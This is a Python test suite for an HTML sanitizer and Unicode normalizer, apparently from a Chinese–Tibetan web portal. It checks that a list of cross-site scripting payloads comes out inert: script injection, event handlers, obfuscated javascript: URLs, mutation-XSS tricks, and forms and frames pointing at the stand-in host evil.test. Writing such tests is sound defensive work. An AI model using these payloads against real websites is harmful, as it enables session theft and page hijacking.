"""The one HTML policy: what passes, what is dropped, and that passing twice changes nothing."""

from __future__ import annotations

import unicodedata
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from portal.foundation.sanitizing import (
    ATTRIBUTES,
    TAGS,
    clean_html,
    has_private_use,
    normalize,
    paragraphs,
    plain_text,
    safe,
)

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.test/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src='javascript:alert(1)'>",
    "<img src=//evil.test/pixel.png>",
    "<img src=https://evil.test/pixel.png>",
    "<img src=/\\evil.test/pixel.png>",
    "<img src='/\t/evil.test/pixel.png'>",
    '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='java&#10;script:alert(1)'>x</a>",
    "<a href=' &#1; javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt&colon;alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a onclick=alert(1) href=/x>x</a>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<p style='position:fixed;inset:0'>x</p>",
    "<style>*{display:none}</style>",
    "<iframe src=https://evil.test></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=x.swf></object><embed src=x.swf>",
    "<form action=https://evil.test><input name=password></form>",
    "<base href=https://evil.test/>",
    "<meta http-equiv=refresh content='0;url=https://evil.test'>",
    "<link rel=stylesheet href=https://evil.test/x.css>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<div id=location name=cookie class=modal>x</div>",
    "<p lang='x\" onmouseover=alert(1)'>x</p>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
]
#: What a browser leaves out of an address, and the other slash that it knows.
STRIPPED = str.maketrans({"\t": None, "\n": None, "\r": None, "\\": "/"})
#: Pieces out of which a property builds documents that no list of examples thought of.
PIECES = st.sampled_from(
    [
        *ATTACKS,
        "<",
        ">",
        "</p>",
        "<p>",
        "<b>",
        "</",
        "<!--",
        "-->",
        "&lt;",
        "&#60;",
        '"',
        "'",
        "\x00",
        "绿色",
        "བོད",
        " ",
        "<table>",
        "<td>",
        "\n",
    ]
)


class Elements(HTMLParser):
    """What a browser would see: the elements and their attributes."""

    def __init__(self, text: str) -> None:
        super().__init__(convert_charrefs=True)
        self.seen: list[tuple[str, dict[str, str | None]]] = []
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.seen.append((tag, dict(attrs)))


def assert_harmless(cleaned: str) -> None:
    for tag, attributes in Elements(cleaned).seen:
        assert tag in TAGS, cleaned
        for name, value in attributes.items():
            assert name in {"lang", *ATTRIBUTES.get(tag, [])}, cleaned
            if name == "href":
                head = (value or "").split("/")[0].lower()
                assert ":" not in head or head.split(":")[0] in {"http", "https", "mailto", "tel"}, cleaned
            if name == "src":
                assert (value or "").startswith("/"), cleaned
                assert not (value or "").translate(STRIPPED).startswith("//"), cleaned


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_leaves_nothing_active(attack: str) -> None:
    assert_harmless(clean_html(attack))
    assert_harmless(clean_html(f"<p>before {attack} after</p>"))
    assert_harmless(str(safe(attack)))


@pytest.mark.parametrize("attack", ["<script>alert(1)</script>", "<style>p{}</style>", "<iframe>x</iframe>"])
def test_active_elements_go_with_their_content(attack: str) -> None:
    assert clean_html(f"<p>a{attack}b</p>") == "<p>ab</p>"


def test_an_image_that_another_site_would_serve_is_not_loaded() -> None:
    assert "src" not in clean_html('<img src="//evil.test/pixel.png" alt="x">')
    assert "src" not in clean_html('<img src="/\\evil.test/pixel.png" alt="x">')
    assert "src" not in clean_html('<img src="https://evil.test/pixel.png" alt="x">')
    assert 'src="/files/1/photo.png"' in clean_html('<img src="/files/1/photo.png" alt="x">')


@given(st.lists(PIECES, max_size=12).map("".join))
def test_no_mixture_of_pieces_leaves_anything_active(text: str) -> None:
    assert_harmless(clean_html(text))


@given(st.text(max_size=200))
def test_no_text_leaves_anything_active(text: str) -> None:
    assert_harmless(clean_html(text))


@given(st.lists(PIECES, max_size=8).map("".join))
def test_cleaning_twice_is_cleaning_once(text: str) -> None:
    once = clean_html(text)
    assert clean_html(once) == once


def test_what_an_editor_writes_passes_unchanged() -> None:
    written = (
        '<h2>名单</h2><p lang="bo">བོད་ཡིག</p><ul><li><strong>一</strong></li></ul>'
        '<p><a href="https://www.xizang.gov.cn/" title="门户">门户</a></p>'
        '<table><thead><tr><th scope="col" colspan="2">名称</th></tr></thead>'
        "<tbody><tr><td>甲</td><td>乙</td></tr></tbody></table>"
    )
    assert clean_html(written) == written


def test_a_language_is_kept_only_where_it_is_one_of_ours() -> None:
    assert clean_html('<span lang="bo-CN">x</span>') == '<span lang="bo-CN">x</span>'
    assert clean_html('<span lang="fr">x</span>') == "<span>x</span>"


@given(st.text(max_size=100))
def test_normalised_text_is_nfc_and_stays_so(text: str) -> None:
    once = normalize(text)
    assert unicodedata.is_normalized("NFC", once)
    assert normalize(once) == once


@given(st.text(alphabet="བོདསྐད་༌་ ཱིྫ\u200b\u200d\u0f73\u0f43", max_size=40))
def test_tibetan_is_kept_in_one_form(text: str) -> None:
    kept = normalize(text)
    assert unicodedata.is_normalized("NFC", kept)
    assert not set(kept) & set("\u0f0c\u200b\u200c\u200d\ufeff")
    assert "\u0f0b\u0f0b" not in kept
    assert normalize(kept) == kept


def test_normalising_decomposes_what_nfc_excludes_from_composition() -> None:
    assert normalize("\u0f43") == "\u0f42\u0fb7"
    assert normalize("\u0f73") == "\u0f71\u0f72"


def test_line_ends_become_those_of_unix() -> None:
    assert normalize("一\r\n二\r三") == "一\n二\n三"


@pytest.mark.parametrize(("text", "found"), [("བོད་\ue5e5", True), ("\uf8ff", True), ("བོད་ཡིག 绿色", False), ("", False)])
def test_letters_of_old_fonts_are_noticed(text: str, found: bool) -> None:
    assert has_private_use(text) is found


def test_plain_text_keeps_the_words_and_parts_the_blocks() -> None:
    assert plain_text("<h2>标题</h2><p>第一&amp;二<br>三</p><script>x</script>").split("\n")[:3] == [
        "标题",
        "第一&二",
        "三",
    ]


@given(st.lists(PIECES, max_size=8).map("".join))
def test_paragraphs_of_plain_text_hold_no_element_but_ours(text: str) -> None:
    assert {tag for tag, _ in Elements(paragraphs(text)).seen} <= {"p", "br", "a"}


def test_paragraphs_follow_empty_lines_and_link_addresses() -> None:
    made = paragraphs("一\n二\n\n见 https://www.miit.gov.cn/ 。")
    assert made.startswith("<p>一<br>二</p><p>")
    assert 'href="https://www.miit.gov.cn/' in made
